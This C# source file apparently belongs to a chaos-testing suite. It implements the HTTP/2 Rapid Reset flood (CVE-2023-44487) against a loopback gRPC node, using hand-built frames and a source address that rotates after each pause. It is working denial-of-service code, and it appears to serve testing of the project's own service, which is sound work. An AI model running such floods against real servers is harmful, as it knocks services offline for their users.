using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

namespace Muster.Chaos.Attacks;

/// <summary>Calls that are opened and reset in one breath (CVE-2023-44487), by frames of HTTP/2 made by hand. After each pause the attack comes from an address that the node does not know yet.</summary>
internal sealed class RapidReset(Target target)
{
    private const int Connections = 10, Streams = 5000, Batch = 100;
    private const byte Headers = 1, Reset = 3, Settings = 4, GoAway = 7, EndHeaders = 4;
    private static readonly byte[] Preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
    private static readonly TimeSpan Patience = TimeSpan.FromMilliseconds(100), Pause = TimeSpan.FromSeconds(1);

    private byte _addresses;
    private long _last;
    private int _connections, _sent, _ended, _turnedAway;   // since the last pause

    // HPACK without a table of ours: POST, http, then literals by the static table's names.
    private static readonly byte[] Head =
    [
        0x83, 0x86, 0x04, .. Text("/muster.v1.Registry/Connect"), 0x01, .. Text("localhost"), 0x0f, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers"),
    ];

    public async Task<Outcome> PlayAsync(CancellationToken cancel)
    {
        if (Stopwatch.GetElapsedTime(_last) > Pause) (_addresses, _connections, _sent, _ended, _turnedAway) = (++_addresses, 0, 0, 0, 0);
        var ends = await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => PlayOneAsync(cancel)));
        _last = Stopwatch.GetTimestamp();
        _connections += Connections;
        _sent += ends.Sum(static one => one.Sent);
        _ended += ends.Count(static one => one is { Sent: > 0, Ended: true });
        _turnedAway += ends.Count(static one => one.Sent == 0);
        return new(true, $"{_connections} connections that want to open and reset {Streams} calls each: {_sent} calls in all were sent, {_ended} connections were ended, {_turnedAway} closed as they came");
    }

    private async Task<(int Sent, bool Ended)> PlayOneAsync(CancellationToken cancel)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        socket.Bind(new IPEndPoint(new IPAddress([127, 0, 5, _addresses]), 0));
        await socket.ConnectAsync(target.Rpc, cancel);
        var ended = EndsAsync(socket, cancel);
        var sent = 0;
        try
        {
            await socket.SendAsync(Preface, cancel);
            for (; sent < Streams && !ended.IsCompleted; sent += Batch)
                await socket.SendAsync(Enumerable.Range(sent, Batch).SelectMany(OpenAndReset).ToArray(), cancel);
        }
        catch (SocketException)
        {
            // Hung up on: that is what EndsAsync tells.
        }

        await Task.WhenAny(ended, Task.Delay(Patience, cancel));
        var told = ended.IsCompleted;
        socket.Close();
        await ended;
        return (sent, told);
    }

    private static IEnumerable<byte> OpenAndReset(int at)
    {
        var stream = (at * 2) + 1;
        return [.. Frame(Headers, EndHeaders, stream, Head), .. Frame(Reset, 0, stream, [0, 0, 0, 8])];
    }

    /// <summary>Reads until the node says that it goes, or hangs up.</summary>
    private static async Task EndsAsync(Socket socket, CancellationToken cancel)
    {
        var (prefix, content) = (new byte[9], new byte[1 << 16]);
        try
        {
            using var line = new NetworkStream(socket, ownsSocket: false);
            do
            {
                await line.ReadExactlyAsync(prefix, cancel);
                await line.ReadExactlyAsync(content.AsMemory(0, (prefix[0] << 16) | (prefix[1] << 8) | prefix[2]), cancel);
            }
            while (prefix[3] != GoAway);
        }
        catch (Exception gone) when (gone is IOException or ObjectDisposedException)
        {
            // Hung up, by the node or by us.
        }
    }

    private static byte[] Frame(byte kind, byte flags, int stream, byte[] content)
    {
        var frame = new byte[9 + content.Length];
        (frame[1], frame[2], frame[3], frame[4]) = ((byte)(content.Length >> 8), (byte)content.Length, kind, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        content.CopyTo(frame, 9);
        return frame;
    }

    private static byte[] Text(string text) => [(byte)text.Length, .. System.Text.Encoding.ASCII.GetBytes(text)];
}
